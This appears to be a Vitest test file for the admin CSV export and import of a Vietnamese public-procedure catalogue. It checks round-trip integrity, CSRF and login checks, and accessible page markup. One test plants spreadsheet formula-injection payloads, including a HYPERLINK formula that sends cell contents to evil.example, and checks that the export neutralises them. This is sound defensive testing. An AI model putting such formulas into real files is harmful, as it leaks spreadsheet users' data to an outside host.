import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { procedureSchema, type Procedure } from '../../src/catalogue/procedure.js';
import { ADMIN_PW, client, login, startAdminServer, type AdminServer } from './harness.js';

/** The catalogue CSV through the admin routes: every field out, every field back, nothing changed. */

let s: AdminServer;
let auth: { cookie: string; csrf: string };
let admin: ReturnType<typeof client>;

beforeAll(async () => {
  s = await startAdminServer();
  auth = await login(s.app, 'an', ADMIN_PW);
  admin = client(s.app, auth);
}, 60_000);
afterAll(() => s?.close());

const SEED = JSON.parse(readFileSync(new URL('../../data/procedures.json', import.meta.url), 'utf8')) as unknown[];
const catalogueJson = async () => JSON.stringify(await s.stores.catalogue.all());

async function exportCsv(): Promise<string> {
  const res = await admin.get('/admin/catalogue/export.csv');
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return res.body;
}

/** What the page's file picker sends: the file's bytes, the CSRF token in a header. */
function importFile(body: string, mode: 'merge' | 'replace', filename = 'procedures.csv') {
  return s.app.inject({
    method: 'POST',
    url: `/admin/catalogue/import-file?mode=${mode}&filename=${encodeURIComponent(filename)}`,
    headers: { cookie: auth.cookie, 'x-csrf-token': auth.csrf, 'content-type': 'application/octet-stream' },
    payload: body,
  });
}

const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];

describe('catalogue CSV', () => {
  it('exports a column for every field of the procedure schema, ministry, subjects, result and source included', async () => {
    expect(await s.stores.catalogue.all()).toHaveLength(2849);
    const csv = await exportCsv();
    const header = parse(csv, { bom: true, to_line: 1 })[0] as string[];
    expect(header).toEqual(Object.keys(procedureSchema.shape));
    const rows = rowsOf(csv);
    expect(rows).toHaveLength(2849);
    for (const k of ['ministry', 'subjects', 'result', 'source'] as const) {
      const filled = SEED.filter((p) => (p as Record<string, unknown>)[k]).length;
      expect(filled, k).toBeGreaterThan(0);
      expect(rows.filter((r) => r[k] !== '').length, k).toBe(filled);
    }
  });

  it('export → import (merge, then replace) leaves all 2,849 procedures of the seed byte-identical', async () => {
    const seed = JSON.stringify(SEED.map((p) => procedureSchema.parse(p)));
    expect(await catalogueJson()).toBe(seed);
    const csv = await exportCsv();
    const probe = s.assistant.catalogue.searcher().search('lam lai cccd bi mat').map((h) => h.procedure.code);

    const merged = await importFile(csv, 'merge');
    expect(merged.statusCode, merged.body.slice(0, 2000)).toBe(303);
    expect(await catalogueJson()).toBe(seed);

    const replaced = await importFile(await exportCsv(), 'replace');
    expect(replaced.statusCode).toBe(303);
    expect(await catalogueJson()).toBe(seed);
    expect(s.assistant.catalogue.searcher().search('lam lai cccd bi mat').map((h) => h.procedure.code)).toEqual(probe);
    expect((await admin.get('/admin/catalogue')).body).toContain('Đã nhập: 0 thêm mới, 2849 cập nhật, tổng 2849 thủ tục.');
    expect((await s.stores.audit.list({ limit: 10 })).items.map((e) => e.action)).toEqual(expect.arrayContaining(['catalogue.import.merge', 'catalogue.import.replace']));
  }, 120_000);

  it('guards cells a spreadsheet would run as a formula, and reads the guard back off exactly', async () => {
    const base = (await s.stores.catalogue.get('1.001193'))!;
    const tricky: Procedure = {
      ...base,
      code: '9.990001',
      name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
      agency: '+84 24 3822 1234',
      fee: '-50% lệ phí khi nộp trực tuyến',
      duration: '@SUM(1+1)',
      subjects: "'=đã có dấu nháy từ trước",
      result: "'bắt đầu bằng dấu nháy",
      phrasings: ['=1+1 làm giấy khai sinh', 'đăng ký | khai sinh'],
    };
    await s.stores.catalogue.upsert(tricky);
    const csv = await exportCsv();
    const row = rowsOf(csv).find((r) => r.code === '9.990001')!;
    expect(row.name).toBe(`'${tricky.name}`);
    expect(row.agency).toBe(`'${tricky.agency}`);
    expect(row.fee).toBe(`'${tricky.fee}`);
    expect(row.duration).toBe(`'${tricky.duration}`);
    expect(row.subjects).toBe(`''=đã có dấu nháy từ trước`);
    expect(row.result).toBe(tricky.result);
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const before = await catalogueJson();
    expect((await importFile(csv, 'merge')).statusCode).toBe(303);
    expect(await catalogueJson()).toBe(before);
    expect(await s.stores.catalogue.get('9.990001')).toEqual(tricky);
    await s.stores.catalogue.remove('9.990001');
  }, 60_000);

  it('keeps the fields an older export does not carry when it is merged back', async () => {
    const p = (await s.stores.catalogue.all()).find((x) => x.ministry && x.result && x.subjects && x.source && x.channels.length && x.documents.length)!;
    const before = structuredClone(p);
    // The columns of an export made before ministry, subjects, result, source and the lists were added.
    const old = `code,name,field,level,agency,fee,duration,online,onlineSubmission,url\n${p.code},"${p.name.replace(/"/g, '""')}","${p.field}",${p.level.join(',')},"${(p.agency ?? '').replace(/"/g, '""')}",Miễn phí,,${p.online ?? ''},${p.onlineSubmission},${p.url ?? ''}\n`;
    const res = await importFile(old, 'merge', 'cu.csv');
    expect(res.statusCode, res.body.slice(0, 1500)).toBe(303);
    const after = (await s.stores.catalogue.get(p.code))!;
    expect(after).toEqual({ ...before, fee: 'Miễn phí', duration: null });
    expect(await s.stores.catalogue.all()).toHaveLength(2849);
  });

  it('reports bad rows of an uploaded file with their line and imports nothing', async () => {
    const before = await catalogueJson();
    const csv = 'code,name,field,level\n1.001193,Đăng ký khai sinh,Hộ tịch,xa\n1.000894,"Tên\r\nhai dòng",Hộ tịch,xa\nABC,Ngắn,Hộ tịch,xa\n';
    const res = await importFile(csv, 'replace', 'sai.csv');
    expect(res.statusCode).toBe(422);
    expect(res.body).toMatch(/<td>5<\/td><td>code<\/td>/);
    expect(await catalogueJson()).toBe(before);
    const noToken = await s.app.inject({ method: 'POST', url: '/admin/catalogue/import-file?mode=replace', headers: { cookie: auth.cookie, 'content-type': 'application/octet-stream' }, payload: 'code,name\n' });
    expect(noToken.statusCode).toBe(403);
    const anonymous = await s.app.inject({ method: 'POST', url: '/admin/catalogue/import-file?mode=replace', headers: { 'content-type': 'application/octet-stream', 'x-csrf-token': auth.csrf }, payload: 'code,name\n' });
    expect(anonymous.statusCode).toBe(401);
  });
});

describe('catalogue and stats pages', () => {
  const headings = (body: string) => [...body.matchAll(/<h([1-6])\b/g)].map((m) => Number(m[1]));
  const inOrder = (levels: number[]) => levels[0] === 1 && levels.every((l, i) => i === 0 || l <= levels[i - 1]! + 1);

  it('label the search field and the file picker, in Vietnamese, with headings in order', async () => {
    const page = (await admin.get('/admin/catalogue?q=khai%20sinh')).body;
    expect(page).toMatch(/<label for="catalogue-q">Tìm thủ tục<\/label> <input id="catalogue-q"/);
    expect(page).toMatch(/<label for="import-file">Chọn tệp \(CSV hoặc JSON\)<\/label> <input type="file" id="import-file"/);
    expect(page).toContain('<legend>Cách nhập</legend>');
    expect(inOrder(headings(page))).toBe(true);
    const stats = (await admin.get('/admin/stats')).body;
    expect(inOrder(headings(stats))).toBe(true);
    expect(stats).toContain('Ngày tính theo giờ Việt Nam');
    expect(stats).not.toMatch(/>CSV<\/a>/);
  });
});
